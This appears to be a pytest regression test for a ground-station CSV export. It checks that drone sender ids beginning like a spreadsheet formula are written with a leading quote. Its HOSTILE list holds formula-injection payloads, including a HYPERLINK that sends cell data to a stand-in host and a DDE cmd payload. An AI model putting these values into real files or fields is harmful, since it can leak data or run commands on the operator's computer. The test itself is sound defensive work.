"""``geotags.csv`` never carries a formula (docs/security.md, 2026-11-24).

The sender id is chosen by whoever holds the fleet key (printable, up to 32 bytes) and was
written as is: ``=HYPERLINK(...)`` became a live formula in the spreadsheet the operator
opens the geotag list with. Ids that start like a formula are written with a leading ``'``;
every other id, and the image's file name (``safe_name``), is unchanged.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from ground_station.export import export_mission
from ground_station.storage import Storage, StoreItem
from utility_specs.message import Message

T0 = 1_700_000_000.0
HOSTILE = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\t=1", "=cmd|'/c x'!A"]


def _image(sender: str, seq: int) -> StoreItem:
    m = Message(sender=sender, seq=seq, type="image", t_gen=T0 + seq, t_sent=T0 + seq,
                t_rcv=T0 + seq + 0.2, size=100, receiver="gs",
                data={"red": 0.0, "lat_deg": 47.39, "lon_deg": 8.54, "pose_age_s": 0.1})
    return StoreItem(mission="m", message=m, payload=bytes([seq]) * 100, utility=1.0)


@pytest.mark.parametrize("sender", HOSTILE)
def test_a_sender_id_that_starts_like_a_formula_is_written_as_text(tmp_path: Path,
                                                                  sender: str) -> None:
    s = Storage(tmp_path / "data")
    s.write_batch([_image(sender, 1), _image("drone-2", 2)], now=T0)
    s.close()
    result = export_mission(tmp_path / "data", "m", tmp_path / "out")
    with open(result.csv_path, newline="") as handle:
        rows = list(csv.DictReader(handle))
    senders = [r["sender"] for r in rows]
    assert senders == ["'" + sender, "drone-2"]
    assert all(not r["image"].startswith(tuple("=+-@")) for r in rows)
